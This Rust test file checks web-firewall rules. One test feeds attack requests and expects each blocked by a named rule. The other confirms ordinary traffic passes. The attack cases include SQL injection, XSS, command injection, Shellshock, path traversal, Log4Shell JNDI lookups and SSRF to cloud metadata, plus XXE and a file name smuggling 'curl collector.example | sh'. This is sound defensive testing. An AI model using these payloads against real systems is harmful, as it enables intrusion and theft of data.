//! The built-in rules: exchanges, and which rule refuses them.

use std::fs;
use std::path::Path;
use std::sync::Arc;

use crate::{Intervention, MemoryFiles, RuleSet, Source, Start, Transaction};

fn rules() -> Arc<RuleSet> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let mut paths: Vec<_> = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.sort();
    let sources: Vec<_> = paths
        .iter()
        .map(|path| {
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            Source::text(name, fs::read_to_string(path).unwrap())
        })
        .collect();
    Arc::new(RuleSet::load(&sources, &MemoryFiles::new()).unwrap_or_else(|error| panic!("{error}")))
}

struct Exchange<'a> {
    target: &'a str,
    headers: Vec<(&'a str, &'a str)>,
    body: Vec<u8>,
}

fn judge(set: &Arc<RuleSet>, exchange: &Exchange<'_>) -> Option<Intervention> {
    let mut transaction = Transaction::new(Arc::clone(set), Start::default());
    transaction.connection("192.0.2.7:40000".parse().unwrap(), "192.0.2.1:443".parse().unwrap());
    let method = if exchange.body.is_empty() { "GET" } else { "POST" };
    transaction.request_line(method.as_bytes(), exchange.target.as_bytes(), b"HTTP/1.1");
    transaction.request_header(b"Host", b"shop.example");
    transaction.request_header(
        b"User-Agent",
        b"Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    );
    transaction.request_header(b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8");
    transaction.request_header(b"Accept-Language", b"de-DE,de;q=0.8,en-US;q=0.5,en;q=0.3");
    let length = exchange.body.len().to_string();
    if !exchange.body.is_empty() {
        transaction.request_header(b"Content-Length", length.as_bytes());
    }
    for (name, value) in &exchange.headers {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    let stopped = transaction.request_head_done();
    let stopped = stopped.or_else(|| transaction.request_body_chunk(&exchange.body));
    stopped.or_else(|| transaction.request_body_done())
}

fn percent(text: &[u8]) -> String {
    text.iter().map(|byte| format!("%{byte:02X}")).collect()
}

fn query(value: &str) -> Exchange<'static> {
    let target = format!("/search?q={}", percent(value.as_bytes()));
    Exchange { target: Box::leak(target.into_boxed_str()), headers: Vec::new(), body: Vec::new() }
}

fn form(value: &str) -> Exchange<'static> {
    Exchange {
        target: "/comment",
        headers: vec![("Content-Type", "application/x-www-form-urlencoded")],
        body: format!("name=Ann&text={}", percent(value.as_bytes())).into_bytes(),
    }
}

fn json(text: &str) -> Exchange<'_> {
    Exchange {
        target: "/api/items",
        headers: vec![("Content-Type", "application/json")],
        body: text.as_bytes().to_vec(),
    }
}

fn xml(text: &str) -> Exchange<'_> {
    Exchange {
        target: "/soap",
        headers: vec![("Content-Type", "text/xml; charset=utf-8")],
        body: text.as_bytes().to_vec(),
    }
}

fn upload(filename: &str) -> Exchange<'static> {
    let body = format!(
        "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\n\
         Content-Type: image/png\r\n\r\n\u{0}PNG\r\n--b0undary--\r\n"
    );
    Exchange {
        target: "/upload",
        headers: vec![("Content-Type", "multipart/form-data; boundary=b0undary")],
        body: body.into_bytes(),
    }
}

fn with<'a>(name: &'a str, value: &'a str) -> Exchange<'a> {
    Exchange { target: "/", headers: vec![(name, value)], body: Vec::new() }
}

fn path(target: &str) -> Exchange<'_> {
    Exchange { target, headers: Vec::new(), body: Vec::new() }
}

/// The rule that refuses it, and none.
#[test]
fn each_attack_is_refused_by_its_rule() {
    let set = rules();
    let cases: Vec<(u64, Exchange<'_>)> = vec![
        (100_201, query("1' or '1'='1")),
        (100_201, form("x' union select name, password from users -- ")),
        (100_201, json(r#"{"id": "1; drop table users"}"#)),
        (100_202, query("<script>alert(1)</script>")),
        (100_202, form("<img src=x onerror=alert(1)>")),
        (100_203, query("127.0.0.1; cat /etc/passwd")),
        (100_203, json(r#"{"host": "x$(whoami)"}"#)),
        (100_203, with("User-Agent", "() { :; }; /bin/bash -c id")),
        (100_204, query("../../../../etc/passwd")),
        (100_204, path("/.git/config")),
        (100_204, path("/static/..%2f..%2f..%2fetc/passwd")),
        (100_204, xml("<a><b>../../../etc/passwd</b></a>")),
        (100_205, query("{{7*7}}")),
        (100_205, with("X-Api-Version", "${jndi:ldap://collector.example/a}")),
        (100_205, with("Referer", "https://shop.example/?a=${${lower:j}ndi:rmi://collector.example/a}")),
        (100_206, query("http://169.254.169.254/latest/meta-data/")),
        (100_206, form("gopher://127.0.0.1:6379/_x")),
        (100_207, path("/login?user[$ne]=1&password[$ne]=1")),
        (100_207, json(r#"{"user": {"$gt": ""}, "password": "x"}"#)),
        (100_208, query("*)(uid=*))(|(uid=*")),
        (100_209, query("x'] | //user/*[contains(*,'")),
        (100_210, form("O:8:\"Evil\\Cls\":1:{s:1:\"a\";s:1:\"b\";}")),
        (100_210, with("Cookie", "session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==")),
        // Entities in a document are not read at all; elsewhere a document is a value.
        (100_101, xml("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")),
        (100_104, form("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")),
        (100_211, query("en\r\nSet-Cookie: admin=1")),
        (100_212, query("__import__('os').system('id')")),
        (100_212, json(r#"{"__proto__": {"admin": true}}"#)),
        (100_103, upload("../../shell.png")),
        (100_203, upload("a.png; curl collector.example | sh")),
        (100_301, with("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
        (100_101, json(r#"{"a": "#)),
    ];
    let wrong: Vec<_> = cases
        .iter()
        .filter_map(|(rule, exchange)| {
            let stopped = judge(&set, exchange).map(|stopped| stopped.rule_id);
            (stopped != Some(*rule)).then(|| {
                format!(
                    "{rule} but {stopped:?}: {} {:?} {}",
                    exchange.target,
                    exchange.headers,
                    String::from_utf8_lossy(&exchange.body)
                )
            })
        })
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_people_send_passes() {
    let set = rules();
    let cases = vec![
        path("/"),
        path("/wiki/Rock_%26_Roll?page=2&sort=asc&dir=up"),
        path("/a/b/c.html;jsessionid=ABC123"),
        path("/files/report%20(final).pdf"),
        path("/?filter[name]=x&ids[]=1&ids[]=2"),
        query("O'Brien & sons; 50% off"),
        query("select a plan from the list"),
        query("https://example.com/?a=b&next=%2Fhome"),
        query("http://shop.example/account"),
        query("https://shop.example/account?tab=2"),
        form("Hello,\r\nplease see `npm install` and <b>bold</b> text.\r\n\r\nTom & Jerry | a -> b"),
        form("in Jinja {{ user.name }} prints a name; ${HOME} is a folder"),
        form("the file /etc/passwd lists the accounts, and ../ goes up"),
        json(
            r#"{"name": "O'Brien", "tags": ["a & b", "1 or 2"], "url": "https://example.com/", "$schema": "x"}"#,
        ),
        json("[]"),
        xml("<order xmlns=\"urn:x\"><item n=\"1\">Fish &amp; chips</item></order>"),
        upload("holiday photo (2).png"),
        upload("r\u{e9}sum\u{e9} & letter; final.pdf"),
        with("Cookie", "session=abc.def-123; theme=dark; _ga=GA1.2.123.456; cart=%7B%22a%22%3A1%7D"),
        with("Referer", "https://www.example.org/search?q=it%27s+5+o%27clock&lang=en"),
        with("If-None-Match", "W/\"abc-123\""),
        with("Sec-CH-UA", "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\""),
        with("Authorization", "Basic YWxpY2U6bGlnaHRob3VzZS03"),
        with("X-Forwarded-For", "203.0.113.7, 10.0.0.1"),
    ];
    let wrong: Vec<_> = cases
        .iter()
        .filter_map(|exchange| {
            let stopped = judge(&set, exchange)?;
            Some(format!(
                "{} {}: {} {:?} {}",
                stopped.rule_id,
                stopped.message,
                exchange.target,
                exchange.headers,
                String::from_utf8_lossy(&exchange.body)
            ))
        })
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}
